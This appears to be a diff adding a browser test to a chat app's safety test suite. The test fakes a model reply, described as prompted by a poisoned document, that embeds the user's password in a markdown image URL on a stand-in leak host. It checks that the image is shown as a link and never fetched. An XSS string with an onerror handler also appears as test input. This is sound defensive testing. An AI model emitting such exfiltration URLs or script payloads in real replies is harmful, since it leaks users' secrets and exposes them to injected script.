@@ -69,6 +69,33 @@ public sealed class SafetyTests(WebAppFixture app)
     }
 
     [ChromiumFact]
+    public async Task AReplyWithAMarkdownImage_ShowsALinkToIt_AndTheBrowserNeverFetchesIt()
+    {
+        const string leak = "https://leak.example/pixel.png?q=hunter2";
+        var email = WebAppFixture.NewEmail("img");
+        await app.CreateUserAsync(email, "Ivy");
+        var page = await app.NewPageAsync();
+        var fetched = new List<string>();
+        page.Request += (_, request) => fetched.Add(request.Url);
+        await WebAppFixture.SignInAsync(page, email);
+        await page.GetByRole(AriaRole.Button, new() { Name = "+ New chat" }).ClickAsync();
+        await page.Locator("button[data-bot-handle=assistant]").ClickAsync();
+
+        // A model led by a poisoned document to put the conversation in an image's address.
+        app.Upstream.Default = UpstreamScript.Answer($"Done. ![chart]({leak})");
+        var composer = page.GetByLabel("Message", new() { Exact = true });
+        await composer.FillAsync("My password is hunter2");
+        await composer.PressAsync("Enter");
+        var reply = page.Locator(".message.bot").Last;
+        await Expect(reply).ToHaveAttributeAsync("data-status", "complete");
+
+        await Expect(reply.Locator(".markdown a", new() { HasText = "chart" })).ToHaveAttributeAsync("href", leak);
+        Assert.Equal(0, await page.Locator(".messages img").CountAsync());
+        Assert.DoesNotContain(fetched, url => url.StartsWith("https://leak.example", StringComparison.Ordinal));
+        await page.Context.CloseAsync();
+    }
+
+    [ChromiumFact]
     public async Task RawHtmlInAMessageOrAReply_IsShownAsTheTextTyped_AndMarkdownStillRenders()
     {
         const string typed = "look <img src=x onerror=\"window.__pwned=1\"> here";
